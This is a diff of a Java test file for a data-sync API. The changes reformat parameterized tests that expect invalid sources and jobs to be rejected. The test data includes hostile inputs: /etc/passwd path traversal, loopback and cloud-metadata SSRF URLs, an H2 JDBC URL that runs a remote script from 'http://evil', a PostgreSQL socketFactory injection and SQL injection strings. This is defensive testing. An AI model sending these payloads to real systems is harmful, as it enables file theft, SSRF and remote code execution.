@@ -30,8 +30,7 @@ class SyncApiTests extends AbstractSyncTests {
 	private static final String JOBS = "/api/v1/sync/jobs";
 
 	static Stream<Arguments> badSources() {
-		return Stream.of(
-				Arguments.of("malformed JSON", "{\"name\":", 400, "MALFORMED_REQUEST"),
+		return Stream.of(Arguments.of("malformed JSON", "{\"name\":", 400, "MALFORMED_REQUEST"),
 				Arguments.of("unknown member", "{\"name\":\"s1\",\"kind\":\"csv\",\"path\":\"a.csv\",\"x\":1}", 400,
 						"MALFORMED_REQUEST"),
 				Arguments.of("unknown kind", "{\"name\":\"s1\",\"kind\":\"ftp\",\"path\":\"a.csv\"}", 400,
@@ -39,39 +38,48 @@ class SyncApiTests extends AbstractSyncTests {
 				Arguments.of("upper-case name", body("S1", "csv", "path", "a.csv"), 400, "VALIDATION_FAILED"),
 				Arguments.of("traversal in a name", body("../s1", "csv", "path", "a.csv"), 400, "VALIDATION_FAILED"),
 				Arguments.of("no kind", "{\"name\":\"s1\",\"path\":\"a.csv\"}", 400, "VALIDATION_FAILED"),
-				Arguments.of("path and url", "{\"name\":\"s1\",\"kind\":\"csv\",\"path\":\"a.csv\","
-						+ "\"url\":\"https://example.com/a.csv\"}", 400, "VALIDATION_FAILED"),
+				Arguments.of("path and url",
+						"{\"name\":\"s1\",\"kind\":\"csv\",\"path\":\"a.csv\","
+								+ "\"url\":\"https://example.com/a.csv\"}",
+						400, "VALIDATION_FAILED"),
 				Arguments.of("jdbc without url", "{\"name\":\"s1\",\"kind\":\"jdbc\"}", 400, "VALIDATION_FAILED"),
-				Arguments.of("bad column type", "{\"name\":\"s1\",\"kind\":\"csv\",\"path\":\"a.csv\",\"columns\":"
-						+ "[{\"name\":\"a\",\"type\":\"varchar2\"}]}", 400, "VALIDATION_FAILED"),
-				Arguments.of("two-character delimiter", "{\"name\":\"s1\",\"kind\":\"csv\",\"path\":\"a.csv\","
-						+ "\"delimiter\":\";;\"}", 400, "VALIDATION_FAILED"),
+				Arguments.of("bad column type",
+						"{\"name\":\"s1\",\"kind\":\"csv\",\"path\":\"a.csv\",\"columns\":"
+								+ "[{\"name\":\"a\",\"type\":\"varchar2\"}]}",
+						400, "VALIDATION_FAILED"),
+				Arguments.of("two-character delimiter",
+						"{\"name\":\"s1\",\"kind\":\"csv\",\"path\":\"a.csv\"," + "\"delimiter\":\";;\"}", 400,
+						"VALIDATION_FAILED"),
 				Arguments.of("path traversal", body("s1", "csv", "path", "../../etc/passwd"), 400,
 						"SOURCE_NOT_ALLOWED"),
 				Arguments.of("absolute path outside", body("s1", "csv", "path", "/etc/passwd"), 400,
 						"SOURCE_NOT_ALLOWED"),
 				Arguments.of("loopback URL", body("s1", "csv", "url", "http://127.0.0.1:8084/x.csv"), 400,
 						"SOURCE_NOT_ALLOWED"),
-				Arguments.of("metadata URL", body("s1", "jsonl", "url", "http://169.254.169.254/latest/meta-data"),
-						400, "SOURCE_NOT_ALLOWED"),
+				Arguments.of("metadata URL", body("s1", "jsonl", "url", "http://169.254.169.254/latest/meta-data"), 400,
+						"SOURCE_NOT_ALLOWED"),
 				Arguments.of("decimal IP URL", body("s1", "csv", "url", "http://2130706433/x.csv"), 400,
 						"SOURCE_NOT_ALLOWED"),
 				Arguments.of("file URL", body("s1", "csv", "url", "file:///etc/passwd"), 400, "SOURCE_NOT_ALLOWED"),
-				Arguments.of("host not on the allowlist", body("s1", "csv", "url", "https://example.com/a.csv"),
-						400, "SOURCE_NOT_ALLOWED"),
-				Arguments.of("H2 INIT script", body("s1", "jdbc", "url",
-						"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'"), 400, "SOURCE_NOT_ALLOWED"),
+				Arguments.of("host not on the allowlist", body("s1", "csv", "url", "https://example.com/a.csv"), 400,
+						"SOURCE_NOT_ALLOWED"),
+				Arguments.of("H2 INIT script",
+						body("s1", "jdbc", "url", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'"), 400,
+						"SOURCE_NOT_ALLOWED"),
 				Arguments.of("H2 file database", body("s1", "jdbc", "url", "jdbc:h2:file:/data/sync/sync"), 400,
 						"SOURCE_NOT_ALLOWED"),
-				Arguments.of("PostgreSQL socket factory", body("s1", "jdbc", "url",
-						"jdbc:postgresql://db/x?socketFactory=org.example.Evil"), 400, "SOURCE_NOT_ALLOWED"),
-				Arguments.of("other driver", body("s1", "jdbc", "url", "jdbc:mysql://db/x"), 400,
+				Arguments.of("PostgreSQL socket factory",
+						body("s1", "jdbc", "url", "jdbc:postgresql://db/x?socketFactory=org.example.Evil"), 400,
 						"SOURCE_NOT_ALLOWED"),
-				Arguments.of("unknown secret", "{\"name\":\"s1\",\"kind\":\"jdbc\",\"url\":\"jdbc:postgresql://db/x\","
-						+ "\"passwordSecret\":\"nope\"}", 400, "SECRET_NOT_FOUND"),
-				Arguments.of("secret name with a slash", "{\"name\":\"s1\",\"kind\":\"jdbc\","
-						+ "\"url\":\"jdbc:postgresql://db/x\",\"passwordSecret\":\"../etc\"}", 400,
-						"VALIDATION_FAILED"),
+				Arguments.of("other driver", body("s1", "jdbc", "url", "jdbc:mysql://db/x"), 400, "SOURCE_NOT_ALLOWED"),
+				Arguments.of("unknown secret",
+						"{\"name\":\"s1\",\"kind\":\"jdbc\",\"url\":\"jdbc:postgresql://db/x\","
+								+ "\"passwordSecret\":\"nope\"}",
+						400, "SECRET_NOT_FOUND"),
+				Arguments.of("secret name with a slash",
+						"{\"name\":\"s1\",\"kind\":\"jdbc\","
+								+ "\"url\":\"jdbc:postgresql://db/x\",\"passwordSecret\":\"../etc\"}",
+						400, "VALIDATION_FAILED"),
 				Arguments.of("huge description", "{\"name\":\"s1\",\"kind\":\"csv\",\"path\":\"a.csv\","
 						+ "\"description\":\"" + "x".repeat(3000) + "\"}", 400, "VALIDATION_FAILED"));
 	}
@@ -115,8 +123,8 @@ class SyncApiTests extends AbstractSyncTests {
 			.doesNotContainKey("password");
 		assertThat(answer.body()).doesNotContain("\"postgres\",\"passwordSecret\":\"postgres\"");
 		assertThat(api().get(SOURCES + "?size=200").body()).contains("\"shown\"");
-		Api.Answer duplicate = api().post(SOURCES, Map.of("name", "shown", "kind", "jdbc", "url",
-				fixtures().postgresUrl()));
+		Api.Answer duplicate = api().post(SOURCES,
+				Map.of("name", "shown", "kind", "jdbc", "url", fixtures().postgresUrl()));
 		assertThatProblem(duplicate.status(), duplicate.contentType(), duplicate.body()).hasStatus(409)
 			.hasCode("SOURCE_ALREADY_EXISTS");
 	}
@@ -135,14 +143,14 @@ class SyncApiTests extends AbstractSyncTests {
 	}
 
 	static Stream<Arguments> badJobs() {
-		return Stream.of(Arguments.of("unknown source", job("j1", Map.of("source", "no-such")), 404, "SOURCE_NOT_FOUND"),
-				Arguments.of("jdbc without table", job("j1", java.util.Collections.singletonMap("table", null)), 400, "VALIDATION_FAILED"),
-				Arguments.of("table with SQL", job("j1", Map.of("table", "x; drop table y")), 400,
+		return Stream.of(
+				Arguments.of("unknown source", job("j1", Map.of("source", "no-such")), 404, "SOURCE_NOT_FOUND"),
+				Arguments.of("jdbc without table", job("j1", java.util.Collections.singletonMap("table", null)), 400,
 						"VALIDATION_FAILED"),
+				Arguments.of("table with SQL", job("j1", Map.of("table", "x; drop table y")), 400, "VALIDATION_FAILED"),
 				Arguments.of("incremental without cursor", job("j1", Map.of("mode", "incremental")), 400,
 						"VALIDATION_FAILED"),
-				Arguments.of("cursor in full mode", job("j1", Map.of("cursorColumn", "id")), 400,
-						"VALIDATION_FAILED"),
+				Arguments.of("cursor in full mode", job("j1", Map.of("cursorColumn", "id")), 400, "VALIDATION_FAILED"),
 				Arguments.of("unknown mode", job("j1", Map.of("mode", "sometimes")), 400, "MALFORMED_REQUEST"),
 				Arguments.of("bad cron", job("j1", Map.of("schedule", "every day")), 400, "VALIDATION_FAILED"),
 				Arguments.of("negative throttle", job("j1", Map.of("throttle", Map.of("rowsPerSecond", -5))), 400,
@@ -150,8 +158,7 @@ class SyncApiTests extends AbstractSyncTests {
 				Arguments.of("percent over 100", job("j1", Map.of("rejectLimit", Map.of("percent", 150))), 400,
 						"VALIDATION_FAILED"),
 				Arguments.of("tiny chunk", job("j1", Map.of("chunkRows", 5)), 400, "VALIDATION_FAILED"),
-				Arguments.of("float for an integer", job("j1", Map.of("chunkRows", 5000.5)), 400,
-						"MALFORMED_REQUEST"),
+				Arguments.of("float for an integer", job("j1", Map.of("chunkRows", 5000.5)), 400, "MALFORMED_REQUEST"),
 				Arguments.of("bad dataset name", job("j1", Map.of("dataset", "Sales Orders")), 400,
 						"VALIDATION_FAILED"),
 				Arguments.of("bad key column", job("j1", Map.of("keyColumns", List.of("id; --"))), 400,
